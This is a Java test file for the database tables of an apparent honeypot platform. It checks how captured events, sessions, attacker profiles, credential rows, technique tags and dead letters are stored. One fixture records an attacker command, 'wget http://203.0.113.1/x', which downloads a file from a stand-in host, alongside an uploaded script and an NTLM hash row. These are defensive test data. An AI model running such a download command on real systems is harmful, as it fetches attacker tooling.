package decnet.db;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.EventId;
import decnet.core.Peer;
import decnet.core.WireText;
import decnet.db.fixture.TestDatabase;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import org.assertj.core.api.ListAssert;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class TablesTest {
    private static final Instant NOON = Instant.parse("2026-11-20T12:00:00.123456Z");
    private static final InetAddress MALLORY = InetAddress.ofLiteral("203.0.113.9");

    private final TestDatabase test = TestDatabase.create();
    private final Database database = test.database();

    @AfterEach
    void close() {
        test.close();
    }

    private <T> ListAssert<T> assertRows(Database.Work<List<T>> work) {
        List<T> rows = database.inTransaction(work);
        return assertThat(rows);
    }

    private static Event event(long offset, String type, Map<String, String> fields) {
        return Event.of(NOON.plusMillis(offset), new DeckyName("web-01"), "ssh", type, fields)
                .withConnection("00000000000000aa", new Peer(MALLORY, 40000), Peer.of("127.1.2.3", 10022))
                .withId(new EventId(0xfedc_ba98_7654_3210L, 7, offset))
                .withRecording(NOON.plusMillis(offset + 5), "here");
    }

    private void add(List<StoredEvent> events) {
        database.inTransaction(tx -> {
            tx.partitions()
                    .ensure(events.stream()
                            .map(stored -> LocalDate.ofInstant(
                                    EventTable.recordedAt(stored.event()), java.time.ZoneOffset.UTC))
                            .toList());
            tx.events().add(events);
            return true;
        });
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void anEventComesBackAsItWasWhateverItsText(long seed) {
        var random = new SplittableRandom(seed);
        byte[] bytes = new byte[400];
        random.nextBytes(bytes);
        Map<String, String> fields = Map.of(
                "raw", WireText.of(bytes),
                "copy", "a\tb\\N\nc\rd\\\"e'\u00fc\ud83d\ude00",
                "empty", "");
        Event event = event(seed, "command", fields);

        add(List.of(new StoredEvent(1, event)));

        List<StoredEvent> found = database.read(tx -> tx.events().after(0, 10));
        assertThat(found).containsExactly(new StoredEvent(1, event));
    }

    @Test
    void anEventWithoutAddressesAndSessionComesBackToo() {
        Event event = Event.of(NOON, new DeckyName("db-01"), "redis", "limit_reached", Map.of())
                .withId(new EventId(1, 0, 0));

        add(List.of(new StoredEvent(1, event)));

        StoredEvent found = database.read(tx -> tx.events().after(0, 10)).getFirst();
        assertThat(found.event().src()).isEmpty();
        assertThat(found.event().session()).isEmpty();
        assertThat(found.event().recordedAt()).contains(NOON);
    }

    @Test
    void theSameEventCannotBeStoredTwiceAndIsKnown() {
        Event event = event(1, "command", Map.of());
        add(List.of(new StoredEvent(1, event)));

        assertThatThrownBy(() -> add(List.of(new StoredEvent(2, event))))
                .isInstanceOfSatisfying(
                        StoreException.class, e -> assertThat(e.sqlState()).contains("23505"));
        Set<EventId> known = database.read(tx -> tx.events().known(List.of(event, event(2, "command", Map.of()))));
        assertThat(known).containsExactly(event.id().orElseThrow());
    }

    @Test
    void aFollowerReadsInOrderAcrossClassesAndDays() {
        database.inTransaction(tx -> {
            tx.partitions().ensure(List.of(LocalDate.of(2026, 11, 20), LocalDate.of(2026, 11, 21)));
            tx.partitions().ensure(List.of(LocalDate.of(2026, 11, 20)));
            return true;
        });
        add(List.of(
                new StoredEvent(1, event(1, "connect", Map.of())),
                new StoredEvent(2, event(86_400_000, "command", Map.of())),
                new StoredEvent(3, event(3, "command", Map.of())),
                new StoredEvent(4, event(4, "disconnect", Map.of()))));

        List<Long> first = database.read(tx -> tx.events().after(0, 2)).stream()
                .map(StoredEvent::seq)
                .toList();
        List<Long> rest = database.read(tx -> tx.events().after(2, 10)).stream()
                .map(StoredEvent::seq)
                .toList();

        assertThat(first).containsExactly(1L, 2L);
        assertThat(rest).containsExactly(3L, 4L);
        assertThat(test.number("select count(*) from event_evidence_20261121")).isEqualTo(1);
        assertThat(test.number("select count(*) from event_noise_20261120")).isEqualTo(2);
    }

    /** A batch that is committed between two partitions of one page must not be half on it: the reader would never see the rest. */
    @Test
    void aPageEndsWithWhatWasKnownWhenItBegan() {
        add(List.of(
                new StoredEvent(1, event(1, "connect", Map.of())), new StoredEvent(2, event(2, "command", Map.of()))));
        add(List.of(
                new StoredEvent(3, event(3, "connect", Map.of())), new StoredEvent(4, event(4, "command", Map.of()))));
        test.execute("update event_day set last_seq = least(last_seq, 2)"); // as the page's first question saw it

        List<StoredEvent> page = database.read(tx -> tx.events().after(0, 10));

        assertThat(page).extracting(StoredEvent::seq).containsExactly(1L, 2L);
    }

    @Test
    void eventsAreFilteredByEverythingGiven() {
        add(List.of(
                new StoredEvent(1, event(1, "connect", Map.of())),
                new StoredEvent(2, event(2, "command", Map.of())),
                new StoredEvent(3, event(3, "command", Map.of()))));

        EventQuery commands = EventQuery.parse("ip:203.0.113.9 type:command", NOON);

        assertRows(tx -> tx.events().search(commands, Long.MAX_VALUE, 10))
                .extracting(StoredEvent::seq)
                .containsExactly(3L, 2L);
        assertRows(tx -> tx.events().searchAfter(commands, 2, 10))
                .extracting(StoredEvent::seq)
                .containsExactly(3L);
        assertRows(tx -> tx.events().search(EventQuery.parse("ip:203.0.113.10", NOON), Long.MAX_VALUE, 10))
                .isEmpty();
    }

    @Test
    void aSessionGrowsWithEveryBatchAndItsTimesOnlyWiden() {
        SessionDelta later = delta(NOON, NOON.plusSeconds(5), Optional.empty(), Optional.empty());
        SessionDelta earlier = delta(
                NOON.minusSeconds(1),
                NOON.plusSeconds(1),
                Optional.of(new SessionDelta.Ending(Optional.of(10L), Optional.empty(), Optional.of(6000L), "client")),
                Optional.of(new SessionDelta.Recording("ab".repeat(32), Optional.of(77L))));

        database.inTransaction(tx -> {
            tx.sessions().apply(List.of(later));
            tx.sessions().apply(List.of(earlier));
            tx.sessions().apply(List.of(later));
            return true;
        });

        SessionRow row =
                database.read(tx -> tx.sessions().find("00000000000000aa")).orElseThrow();
        assertThat(row.firstSeen()).isEqualTo(NOON.minusSeconds(1));
        assertThat(row.lastSeen()).isEqualTo(NOON.plusSeconds(5));
        assertThat(row.events()).isEqualTo(9);
        assertThat(row.endReason()).contains("client");
        assertThat(row.bytesIn()).contains(10L);
        assertThat(row.recordingSize()).contains(77L);
        assertRows(tx -> tx.sessions().of(MALLORY, 10)).containsExactly(row);
        assertRows(tx -> tx.sessions().newestRecorded(NOON.plusSeconds(60), 10)).hasSize(1);
    }

    private int endIdle(Instant before, boolean flowsOnly) {
        return database.inTransaction(tx -> tx.sessions().endIdle(before, flowsOnly, "idle", 10));
    }

    @Test
    void aSilentSessionIsFoundAndEndedOnceAndItsOwnEndingCounts() {
        SessionDelta open = delta(NOON, NOON.plusSeconds(5), Optional.empty(), Optional.empty());
        database.inTransaction(tx -> {
            tx.sessions().apply(List.of(open));
            return true;
        });
        assertThat(endIdle(NOON.plusSeconds(5), false)).isZero();
        assertThat(endIdle(NOON.plusSeconds(6), true))
                .as("it has an id of its own")
                .isZero();
        assertThat(endIdle(NOON.plusSeconds(6), false)).isEqualTo(1);
        assertThat(endIdle(NOON.plusSeconds(6), false)).isZero();

        SessionRow ended = database.read(tx -> tx.sessions().find(open.id())).orElseThrow();
        assertThat(ended.endReason()).contains("idle");
        assertThat(ended.endedAt()).contains(NOON.plusSeconds(5));
        assertThat(ended.sensor()).contains("here");
        SessionDelta ending = delta(
                NOON,
                NOON.plusSeconds(90),
                Optional.of(new SessionDelta.Ending(Optional.empty(), Optional.empty(), Optional.empty(), "client")),
                Optional.empty());
        SessionRow after = database.inTransaction(tx -> {
            tx.sessions().apply(List.of(ending));
            return tx.sessions().find(open.id()).orElseThrow();
        });
        assertThat(after.endReason()).contains("client");
        assertThat(after.endedAt()).contains(NOON.plusSeconds(90));
    }

    @Test
    void aHashKeepsItsChallengeAndAKeyItsFingerprint() {
        Origin origin = Origin.of(event(1, "login_attempt", Map.of()), 1);
        Origin next = Origin.of(event(2, "login_attempt", Map.of()), 2);
        CredentialRow hash = new CredentialRow(
                new Origin(origin.event(), 1, NOON, Optional.empty(), origin.source(), origin.decky(), "smb"),
                Optional.of("CORP\\bob"),
                "0123abcd",
                "ntlm",
                Optional.of("rejected"),
                Optional.of("ntlmv2"),
                Optional.of("1122334455667788"),
                Optional.empty());
        CredentialRow key = new CredentialRow(
                new Origin(next.event(), 2, NOON, Optional.empty(), next.source(), next.decky(), "ssh"),
                Optional.of("root"),
                "AAAA",
                "ssh_publickey",
                Optional.of("rejected"),
                Optional.of("publickey"),
                Optional.empty(),
                Optional.of("SHA256:abc"));

        database.inTransaction(tx -> {
            tx.credentials().add(List.of(hash, key));
            return true;
        });

        assertRows(tx -> tx.credentials().newest(Long.MAX_VALUE, 10)).containsExactly(key, hash);
        assertThat(hash.toJson().path("challenge").asText()).isEqualTo("1122334455667788");
    }

    private static SessionDelta delta(
            Instant first,
            Instant last,
            Optional<SessionDelta.Ending> ending,
            Optional<SessionDelta.Recording> recording) {
        return new SessionDelta(
                "00000000000000aa",
                first,
                last,
                new DeckyName("web-01"),
                "ssh",
                Optional.of("here"),
                Optional.of(new Peer(MALLORY, 40000)),
                Optional.of(Peer.of("127.1.2.3", 10022)),
                Optional.of("root"),
                3,
                1,
                1,
                0,
                ending,
                recording);
    }

    @Test
    void derivedRowsOfOneAddressAreFoundWithTheirExactBytes() {
        byte[] password = {'p', 0, (byte) 0xff, '\\', '\t', 'w'};
        Origin origin = Origin.of(event(1, "login_attempt", Map.of()), 1);
        database.inTransaction(tx -> {
            tx.sessions().apply(List.of(delta(NOON, NOON, Optional.empty(), Optional.empty())));
            tx.credentials()
                    .add(List.of(new CredentialRow(
                            origin,
                            Optional.of("root"),
                            WireText.of(password),
                            "plaintext",
                            Optional.of("rejected"),
                            Optional.empty())));
            tx.commands()
                    .add(List.of(new CommandRow(
                            origin,
                            "wget http://203.0.113.1/x\\x00",
                            Optional.of("/root"),
                            Optional.empty(),
                            Optional.empty())));
            tx.uploads()
                    .add(List.of(new UploadRow(
                            origin,
                            Optional.of("x.sh"),
                            Optional.of(12L),
                            Optional.of("cd".repeat(32)),
                            Optional.of("scp"))));
            return true;
        });

        CredentialRow credential =
                database.read(tx -> tx.credentials().of(MALLORY, 0, 10)).getFirst();
        assertThat(WireText.bytes(credential.secret())).isEqualTo(password);
        assertThat(test.number("select count(*) from credential where secret_bytes = '\\x7000ff5c0977'::bytea"))
                .isEqualTo(1);
        assertThat(credential.toString()).doesNotContain("p\\x00");
        assertRows(tx -> tx.commands().of(MALLORY, 0, 10))
                .extracting(CommandRow::command)
                .containsExactly("wget http://203.0.113.1/x\\x00");
        assertRows(tx -> tx.commands().of("00000000000000aa", 0, 10)).hasSize(1);
        assertRows(tx -> tx.uploads().of(MALLORY, 0, 10))
                .extracting(UploadRow::name)
                .containsExactly(Optional.of("x.sh"));
    }

    @Test
    void anAttackerIsBuiltStepByStep() {
        AttackerDelta first = new AttackerDelta(MALLORY, NOON, NOON, 5, 1, 2, 3, 0, Set.of("ssh"), Set.of("web-01"));
        AttackerDelta second = new AttackerDelta(
                MALLORY,
                NOON.minusSeconds(60),
                NOON.minusSeconds(30),
                1,
                0,
                0,
                0,
                1,
                Set.of("ftp", "ssh"),
                Set.of("db-01"));

        database.inTransaction(tx -> tx.attackers().apply(List.of(first)));
        AttackerRow row = database.inTransaction(tx -> {
            AttackerRow now = tx.attackers().apply(List.of(second)).getFirst();
            tx.attackers().score(Map.of(MALLORY, 42));
            return now;
        });

        assertThat(row.firstSeen()).isEqualTo(NOON.minusSeconds(60));
        assertThat(row.lastSeen()).isEqualTo(NOON);
        assertThat(row.events()).isEqualTo(6);
        assertThat(row.services()).containsExactly("ftp", "ssh");
        assertThat(row.deckies()).containsExactly("db-01", "web-01");
        assertThat(database.read(tx -> tx.attackers().find(MALLORY))
                        .orElseThrow()
                        .score())
                .isEqualTo(42);
        assertThat(test.number("select service_count from attacker")).isEqualTo(2);
    }

    @Test
    void taggingAgainAddsNothing() {
        TagRow tag = new TagRow(
                UUID.randomUUID(),
                new EventId(1, 2, 3),
                NOON,
                Optional.of(MALLORY),
                Optional.empty(),
                "web-01",
                "ssh",
                "T1105",
                "command-and-control",
                "R0001",
                1,
                0.9,
                "wget …");

        assertRows(tx -> tx.tags().add(List.of(tag))).containsExactly(tag);
        assertRows(tx -> tx.tags().add(List.of(tag))).isEmpty();
        assertRows(tx -> tx.tags().of(MALLORY, 10)).containsExactly(tag);
    }

    @Test
    void aCursorMovesOnlyWithItsTransaction() {
        assertThatThrownBy(() -> database.inTransaction(tx -> {
                    tx.cursors().lock("ttp");
                    tx.cursors().save("ttp", new Cursor(9, "x"));
                    throw new IllegalStateException("killed before the commit");
                }))
                .isInstanceOf(IllegalStateException.class);
        Cursor cursor = database.read(tx -> tx.cursors().read("ttp"));
        assertThat(cursor).isEqualTo(Cursor.START);

        assertThatThrownBy(() -> database.inTransaction(tx -> {
                    tx.cursors().save("nobody", Cursor.START);
                    return true;
                }))
                .hasMessageContaining("nobody");
    }

    @Test
    void deadLettersAreKeptOncePerPlaceAndCut() {
        DeadLetter letter = new DeadLetter("journal/capture", "1-2", "why\0", "x".repeat(100_000));

        database.inTransaction(tx -> {
            tx.deadLetters().add(List.of(letter, letter));
            return true;
        });

        DeadLetter found = database.read(tx -> tx.deadLetters().newest(10)).getFirst();
        long count = database.read(tx -> tx.deadLetters().count());
        assertThat(count).isEqualTo(1);
        assertThat(found.line().getBytes(StandardCharsets.UTF_8)).hasSize(DeadLetter.MAX_LINE);
        assertThat(found.reason()).isEqualTo("why\\x00");
    }

    /** On a thread of its own, as a transaction within a transaction would be the same one. */
    private List<StoredLetter> takenByAnother() {
        try (var thread = Executors.newSingleThreadExecutor()) {
            Database.Work<List<StoredLetter>> take = tx -> tx.deadLetters().takeForRetry(10);
            return thread.submit(() -> database.inTransaction(take)).get();
        } catch (ExecutionException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void aDeadLetterIsTakenForAnotherTryByOneOnlyAndRemovedOrRefused() {
        database.inTransaction(tx -> {
            tx.deadLetters()
                    .add(List.of(
                            new DeadLetter("journal/a", "1", "why", "one"),
                            new DeadLetter("journal/a", "2", "why", "two"),
                            new DeadLetter("journal/a", "3", "why", "three")));
            return true;
        });
        List<StoredLetter> all = database.read(tx -> tx.deadLetters().list(Long.MAX_VALUE, 2));
        assertThat(all).extracting(stored -> stored.letter().line()).containsExactly("three", "two");
        long two = all.getLast().id();
        assertRows(tx -> tx.deadLetters().list(two, 10)).hasSize(1);
        assertRows(tx -> tx.deadLetters().takeForRetry(10)).isEmpty();

        assertThat(database.<Integer>inTransaction(tx -> tx.deadLetters().markRetry(List.of(two, 99L))))
                .isEqualTo(1);
        assertThat(database.<Integer>inTransaction(tx -> tx.deadLetters().markAllForRetry(1)))
                .isEqualTo(1);
        List<StoredLetter> taken = database.inTransaction(tx -> {
            List<StoredLetter> mine = tx.deadLetters().takeForRetry(10);
            assertThat(takenByAnother()).isEmpty();

            tx.deadLetters().refuse(mine.getFirst().id(), "still bad");
            tx.deadLetters().remove(List.of(mine.getLast().id()));
            return mine;
        });

        assertThat(taken).extracting(stored -> stored.letter().line()).containsExactly("one", "two");
        Optional<StoredLetter> refused =
                database.read(tx -> tx.deadLetters().find(taken.getFirst().id()));
        assertThat(refused.orElseThrow().letter().reason()).isEqualTo("still bad");
        assertThat(refused.orElseThrow().attempts()).isEqualTo(1);
        assertThat(refused.orElseThrow().retryAt()).isEmpty();
        assertThat(database.<Long>read(tx -> tx.deadLetters().count())).isEqualTo(2);
    }

    @Test
    void anEventIdOutOfRangeIsRefusedWithItsReason() {
        assertThatThrownBy(() -> EventKey.of(new EventId(1, 1L << 32, 0)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("out of range");
        EventId most = new EventId(-1, 0xffff_ffffL, 0xffff_ffffL);
        assertThat(EventKey.id(EventKey.of(most))).isEqualTo(most);
    }

    @Test
    void connectionsThatTheServerCutAreReplaced() {
        assertThat(database.schema().current()).isTrue();

        test.cutConnections();

        decnet.testing.Await.await(() -> assertThat(database.schema().current()).isTrue());
    }
}
